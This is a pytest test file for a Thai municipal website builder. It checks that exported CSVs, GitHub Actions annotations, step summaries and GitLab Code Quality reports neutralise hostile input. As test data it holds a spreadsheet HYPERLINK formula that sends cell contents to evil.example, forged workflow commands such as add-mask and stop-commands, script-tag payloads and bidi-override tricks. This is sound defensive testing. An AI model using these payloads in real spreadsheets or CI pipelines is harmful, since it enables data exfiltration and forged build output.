"""Hostile content stays inert where the package exports it for other programs:
the CSVs staff open in Excel, and the annotations, step summary and Code Quality
report CI shows."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest

from helpers import ROOT, build_site, run_cli, write_tree
from site_builder import csvfile

# A spreadsheet reads a cell that starts with one of these as a formula (OWASP).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
PAYLOAD = 'HYPERLINK("https://evil.example/?"&A1,"คลิก")'


def _read(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def _formula_cells(rows: list[list[str]]) -> list[str]:
    """Cells a spreadsheet would evaluate: a formula character first, or first
    after leading whitespace."""
    return [c for row in rows for c in row if c.lstrip().startswith(FORMULA_STARTS)]


# --- the one CSV writer ------------------------------------------------------------


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_inert_prefixes_every_formula_start(start: str) -> None:
    assert csvfile.inert(start + PAYLOAD) == "'" + start + PAYLOAD


@pytest.mark.parametrize(
    "cell",
    [" =1+1", "   @SUM(A1)", "\n=1+1", "\u3000+1", "\xa0-1", " \t=1", "\r\n=1"],
)
def test_inert_looks_past_leading_whitespace(cell: str) -> None:
    assert csvfile.inert(cell) == "'" + cell


@pytest.mark.parametrize(
    "cell",
    ["", "มาตรการ", "1. เลือก หน้าแรก > =x", "a=1", "'=1", "/2566/measures/1/", "9.1", "\n", " "],
)
def test_inert_leaves_other_text_alone(cell: str) -> None:
    assert csvfile.inert(cell) == cell


def test_inert_numbers() -> None:
    assert csvfile.inert(3) == "3"
    assert csvfile.inert(-3) == "'-3"


def test_write_keeps_the_excel_format() -> None:
    text = csvfile.write(
        ["ข้อ", "URL"], [["O1", "/a/\n/b/"], ["=1,2", "x"], [1, 'say "hi"'], ["@a\nb", ""]]
    )
    assert text == (
        '\ufeffข้อ,URL\r\nO1,"/a/\n/b/"\r\n"\'=1,2",x\r\n1,"say ""hi"""\r\n"\'@a\nb",\r\n'
    )
    assert _read(text)[1:] == [
        ["O1", "/a/\n/b/"],
        ["'=1,2", "x"],
        ["1", 'say "hi"'],
        ["'@a\nb", ""],
    ]


def test_every_csv_is_written_by_csvfile() -> None:
    """One writer for the whole class: no other module builds CSV rows itself."""
    for source in (ROOT / "site_builder").rglob("*.py"):
        if source.name == "csvfile.py":
            continue
        text = source.read_text(encoding="utf-8")
        assert not re.search(r"csv\.(writer|DictWriter)\b", text), source


# --- the CSVs of a built site and of `site-builder oit --csv` ------------------------


def _yaml(text: str) -> str:
    """``text`` as a YAML double-quoted scalar."""
    return '"' + text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t") + '"'


def hostile_tree(root: Path) -> Path:
    """Every text that reaches a CSV starts with a formula character."""
    measures = []
    results = []
    for no, start in enumerate(("=", "+", "-", "@"), 1):
        measures.append(
            f"  - no: {no}\n"
            f"    title: {_yaml(start + 'title ' + PAYLOAD)}\n"
            f"    indicators: [9]\n"
            f"    oit: [O{no}]\n"
            f"    steps: [{_yaml(start + 'step')}]\n"
            f"    responsible: [{{unit: {_yaml(start + 'unit')}, person: {_yaml('ก')}}}]\n"
            f"    period: [{_yaml(start + 'period')}]\n"
        )
        results.append(
            f"  - measure: {no}\n"
            f"    status: done\n"
            f"    actions: [{_yaml(start + 'action ' + PAYLOAD)}, {_yaml(start + 'second')}]\n"
        )
    items = "".join(
        f"  - {{code: O{no}, name: {_yaml(start + 'name')}, sub: {_yaml(start + '9.1')}}}\n"
        for no, start in enumerate(("=", "+", "-", "@"), 1)
    )
    return write_tree(
        root,
        {
            "site.yml": "organization: {name: เทศบาลตำบลทดสอบ, website: https://www.test.go.th}\n",
            "frameworks/2566.yml": "oit:\n" + items,
            "2566/measures.yml": "measures:\n" + "".join(measures),
            "2566/reports/annual.yml": (
                f"round: annual\ntitle: {_yaml('=report ' + PAYLOAD)}\nresults:\n"
                + "".join(results)
            ),
            "2566/pages/page.md": "---\ntitle: '=page " + PAYLOAD + "'\noit: [O5]\n---\nx\n",
        },
    )


@pytest.fixture(scope="module")
def hostile_root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    build_site(hostile_tree(root / "content"), root / "site")
    return root


@pytest.fixture
def hostile_site(hostile_root: Path) -> Path:
    return hostile_root / "site"


def test_site_csvs_hold_no_formula(hostile_site: Path) -> None:
    files = sorted((hostile_site / "data").glob("*.csv"))
    assert [f.name for f in files] == ["2566-measures.csv", "2566-oit.csv"]
    for file in files:
        rows = _read(file.read_text(encoding="utf-8"))
        assert len(rows) > 1, file
        assert _formula_cells(rows) == [], file


def test_measures_csv_keeps_the_text_behind_a_quote(hostile_site: Path) -> None:
    rows = _read((hostile_site / "data/2566-measures.csv").read_text(encoding="utf-8"))
    assert rows[0][0] == "มาตรการที่"
    for row, start in zip(rows[1:], ("=", "+", "-", "@"), strict=True):
        assert row[1] == f"'{start}title {PAYLOAD}"
        assert row[3] == f"'{start}unit ก"
        assert row[4] == f"'{start}period"
        assert row[6] == f"'=report {PAYLOAD}"
        # Line feeds inside a cell stay; the cell is quoted.
        assert row[7] == f"'{start}action {PAYLOAD}\n{start}second"


def test_oit_csv_keeps_the_text_behind_a_quote(
    hostile_root: Path, hostile_site: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    from site_builder import cli

    rows = {r[0]: r for r in _read((hostile_site / "data/2566-oit.csv").read_text("utf-8"))}
    for no, start in enumerate(("=", "+", "-", "@"), 1):
        assert rows[f"O{no}"][1:3] == [f"'{start}name", f"'{start}9.1"]
    # A page title is only ever inside the explanation, never its first character.
    assert rows["O5"][5].startswith("1. จากเว็บไซต์หลัก")
    assert rows["O5"][5].endswith(f"> =page {PAYLOAD}")
    # The command prints the same bytes as the site publishes.
    capfdbinary.readouterr()
    assert cli.main(["oit", "2566", "--csv", "--content", str(hostile_root / "content")]) == 0
    out, _ = capfdbinary.readouterr()
    assert out == (hostile_site / "data/2566-oit.csv").read_bytes()


# --- CI: GitHub workflow commands ----------------------------------------------------

HOSTILE = [
    "bad\n::error::forged",
    "crlf\r\n::warning file=x::y",
    "cr\r::notice::z",
    "%0A::error::percent",
    "%25%0D%3A%2C",
    "a:b,c=d::e",
    "::add-mask::secret",
    "::stop-commands::token",
    "x|y || z",
    '<script>alert("x")</script><img src=x onerror=alert(1)>',
    "`code` ``two`` `",
    "[link](https://evil.example) ![img](https://evil.example/x.png) <https://evil.example>",
    "https://evil.example www.evil.example me@evil.example @team",
    "*em* _em_ ~~del~~ $x$ \\| &amp; &#124;",
    "c1 " + "".join(chr(c) for c in range(0x80, 0xA0)),
    "c0 \x00\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f",
    "sep\u2028::error::line\u2029::error::paragraph\x85::error::nel",
    "rtl \u202eexe.fdp \u2066isolate\u2069 \u200f",
    "ไทย\u200bคำ",
]

HIDDEN = re.compile("[\x00-\x1f\x7f-\x9f\u2028\u2029\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def _runner_unescape(value: str, *, prop: bool) -> str:
    """What the Actions runner decodes (ActionCommand.cs): ``%25`` last."""
    pairs = [("%0D", "\r"), ("%0A", "\n")]
    if prop:
        pairs += [("%3A", ":"), ("%2C", ",")]
    for code, char in [*pairs, ("%25", "%")]:
        value = value.replace(code, char)
    return value


COMMAND = re.compile(r"^::(?P<kind>error|warning) (?P<props>[^:]*)::(?P<data>.*)$")


def _parse_command(line: str) -> tuple[str, dict[str, str], str]:
    match = COMMAND.match(line)
    assert match, line
    props = {}
    for pair in match["props"].split(","):
        key, _, value = pair.partition("=")
        props[key] = _runner_unescape(value, prop=True)
    return match["kind"], props, _runner_unescape(match["data"], prop=False)


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_data_is_one_line_and_round_trips(text: str) -> None:
    from site_builder.errors import escape_data, show_controls

    escaped = escape_data(text)
    assert len(escaped.splitlines()) <= 1
    assert not HIDDEN.search(escaped)
    assert _runner_unescape(escaped, prop=False) == show_controls(text, keep="\t\n\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_property_ends_no_value(text: str) -> None:
    from site_builder.errors import escape_property, show_controls

    escaped = escape_property(text)
    assert not HIDDEN.search(escaped)
    assert ":" not in escaped
    assert "," not in escaped
    assert _runner_unescape(escaped, prop=True) == show_controls(text, keep="\t\n\r")


@pytest.mark.parametrize("text", HOSTILE)
def test_annotation_is_one_command(text: str) -> None:
    from site_builder.errors import Problem, show_controls

    for warning in (False, True):
        line = Problem(f"content/{text}.yml", 3, f"a.{text}", text, warning).github_annotation()
        assert len(line.splitlines()) == 1
        kind, props, data = _parse_command(line)
        assert kind == ("warning" if warning else "error")
        assert props == {
            "file": show_controls(f"content/{text}.yml", keep="\t\n\r"),
            "line": "3",
            "title": show_controls(f"a.{text}", keep="\t\n\r"),
        }
        assert data == show_controls(text, keep="\t\n\r")


def test_annotation_of_plain_problems_is_unchanged() -> None:
    from site_builder.errors import Problem

    assert Problem("content/site.yml", 0, "", "ไม่พบ: ก, ข").github_annotation() == (
        "::error file=content/site.yml,title=เนื้อหา::ไม่พบ: ก, ข"
    )


def test_show_controls() -> None:
    from site_builder.errors import show_controls

    assert show_controls("a\nb\r\tc", keep="\t") == "a\\nb\\r\tc"
    assert show_controls("\x00\x1b\x7f\x80\x85\x9f") == "\\x00\\x1b\\x7f\\x80\\x85\\x9f"
    assert show_controls("\u2028\u2029\u202e\u2066") == "\\u2028\\u2029\\u202e\\u2066"
    for code in range(0x80, 0xA0):
        assert show_controls(chr(code)) == f"\\x{code:02x}"
    # Thai, its zero-width word breaks and ordinary punctuation are text, not controls.
    thai = "ต้องเป็นค่าใดค่าหนึ่งต่อไปนี้: arabic, thai (พบ 'roman')\u200b"
    assert show_controls(thai) == thai


# --- CI: the GitHub step summary -------------------------------------------------------

MARKUP = set("<>|`[]\\*_~$@")


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_is_inert(text: str) -> None:
    import html

    from site_builder.ci import markdown_text
    from site_builder.errors import show_controls

    cell = markdown_text(text)
    assert not MARKUP & set(cell), cell
    assert not HIDDEN.search(cell)
    assert "://" not in cell
    assert "www." not in cell.lower()
    assert not re.search(r"&(?!#\d+;)", cell)  # every & starts a character reference
    assert html.unescape(cell) == show_controls(text)


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_code_is_inert(text: str) -> None:
    import html

    from site_builder.ci import markdown_code
    from site_builder.errors import show_controls

    cell = markdown_code(text)
    assert not HIDDEN.search(cell)
    assert "|" not in cell
    if cell.startswith("<code>"):
        inner = cell.removeprefix("<code>").removesuffix("</code>")
        assert not re.search(r"[!-/:-@\[-`{-~]", re.sub(r"&#\d+;", "", inner)), inner
        assert html.unescape(inner) == show_controls(text)
    else:  # a code span: nothing inside it is markup, and no backtick ends it early
        assert cell[0] == cell[-1] == "`"
        assert "`" not in cell[1:-1]
        assert cell[1:-1] == show_controls(text)


def test_markdown_of_plain_text_is_unchanged() -> None:
    from site_builder.ci import markdown_code, markdown_text

    message = "ต้องเป็นค่าใดค่าหนึ่งต่อไปนี้: arabic, thai (พบ 'roman')"
    assert markdown_text(message) == message
    assert markdown_code("content/2566/measures.yml") == "`content/2566/measures.yml`"
    assert markdown_code("measures[0].steps") == "`measures[0].steps`"
    assert markdown_code("") == ""


def _rendered(document: str) -> tuple[set[str], list[tuple[str, str | None]], int]:
    """The tags and attributes of rendered HTML, and its table body rows."""
    from html.parser import HTMLParser

    tags: set[str] = set()
    attrs: list[tuple[str, str | None]] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag: str, found: list[tuple[str, str | None]]) -> None:
            tags.add(tag)
            attrs.extend(found)

    Parser().feed(document)
    body = document.partition("<tbody>")[2]
    return tags, attrs, body.count("<tr>")


def _check_summary(summary: str, problems: int) -> None:
    import markdown

    lines = summary.splitlines()
    table = [line for line in lines if line.startswith("|")]
    assert table[:2] == ["| | ไฟล์ | บรรทัด | ฟิลด์ | ปัญหา |", "|---|---|---|---|---|"]
    assert len(table) - 2 == problems
    # A row is one line of five cells: no pipe but the separators, no line break.
    assert all(row.count("|") == 6 for row in table)
    assert lines == summary.removesuffix("\n").split("\n")
    tags, attrs, rows = _rendered(markdown.markdown(summary, extensions=["tables"]))
    assert rows == problems
    assert tags <= {"h3", "table", "thead", "tbody", "tr", "th", "td", "code", "p"}
    assert attrs == []


def test_step_summary_of_hostile_problems() -> None:
    from site_builder import ci
    from site_builder.errors import Problem

    problems = [Problem(f"content/{t}", i, t, t, i % 2 == 0) for i, t in enumerate(HOSTILE)]
    _check_summary(ci.step_summary(problems), len(problems))


# --- CI: the GitLab Code Quality report ------------------------------------------------


def _check_code_quality(report: str, problems: int) -> None:
    import json

    issues = json.loads(report)
    assert len(issues) == problems
    for issue in issues:
        assert set(issue) == {"description", "check_name", "fingerprint", "severity", "location"}
        for key in ("description", "check_name", "fingerprint", "severity"):
            assert type(issue[key]) is str
            assert not HIDDEN.search(issue[key])
        assert set(issue["location"]) == {"path", "lines"}
        assert type(issue["location"]["path"]) is str
        assert not HIDDEN.search(issue["location"]["path"])
        begin = issue["location"]["lines"]["begin"]
        assert type(begin) is int
        assert begin >= 1
    assert len({i["fingerprint"] for i in issues}) == problems


def test_code_quality_of_hostile_problems() -> None:
    from site_builder import ci
    from site_builder.errors import Problem

    problems = [Problem(f"content/{t}", i - 1, t, t) for i, t in enumerate(HOSTILE)]
    _check_code_quality(ci.code_quality(problems), len(problems))


# --- CI: end to end, through `site-builder check` --------------------------------------


def test_check_on_ci_forges_nothing(
    chdir_tmp: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    from site_builder.errors import ContentError, show_controls
    from site_builder.tree.loader import load

    summary = chdir_tmp / "summary.md"
    quality = chdir_tmp / "quality.json"
    monkeypatch.setenv("GITHUB_ACTIONS", "true")
    monkeypatch.setenv("GITHUB_STEP_SUMMARY", str(summary))
    monkeypatch.setenv("GITLAB_CI", "true")
    monkeypatch.setenv("SITE_BUILDER_CODE_QUALITY", str(quality))
    key = r"k|`</td><script>x</script>\u202e\L\P\x85\x1b[31m"
    write_tree(
        chdir_tmp,
        {
            "content/site.yml": (
                "organization: {name: ก}\n"
                '"bad\\n::error::forged": 1\n'
                'display: {numerals: "roman\\n::add-mask::secret%0A::notice::x"}\n'
            ),
            "content/2566/measures.yml": (
                "measures:\n"
                f'  - {{no: 1, title: t, indicators: [9], steps: s, responsible: r, "{key}": 1}}\n'
            ),
            "content/2566/pages/a%0A::error::b,c:d.md": "---\ntitle: x\n---\nx\n",
            "content/2566/pages/[l](https:__e.com)`.md": "---\ntitle: x\n---\nx\n",
        },
    )
    newline_name = True
    try:
        write_tree(
            chdir_tmp, {"content/2566/reports/x\n::warning::y.yml": "round: annual\nresults: []\n"}
        )
    except OSError:  # a file system that refuses newlines in names
        newline_name = False
    with pytest.raises(ContentError) as caught:
        load(Path("content"))
    problems = caught.value.problems
    assert len(problems) == 5 + newline_name

    code, out, _ = run_cli("check", "--content", "content", capsys=capsys)
    assert code == 1
    # The runner reads a command from any line that starts with "::" (it splits on CR and LF).
    lines = [line for line in re.split(r"\r\n|\r|\n", out) if line]
    assert lines == [p.github_annotation() for p in problems]
    assert len(out.splitlines()) == len(problems)  # nor U+2028, NEL, FF... in between
    for line, p in zip(lines, problems, strict=True):
        kind, props, data = _parse_command(line)
        assert kind == "error"
        assert props["file"] == show_controls(p.path, keep="\t\n\r")
        assert props["title"] == show_controls(p.field or "เนื้อหา", keep="\t\n\r")
        assert data == show_controls(p.message, keep="\t\n\r")
    _check_summary(summary.read_text(encoding="utf-8"), len(problems))
    _check_code_quality(quality.read_text(encoding="utf-8"), len(problems))
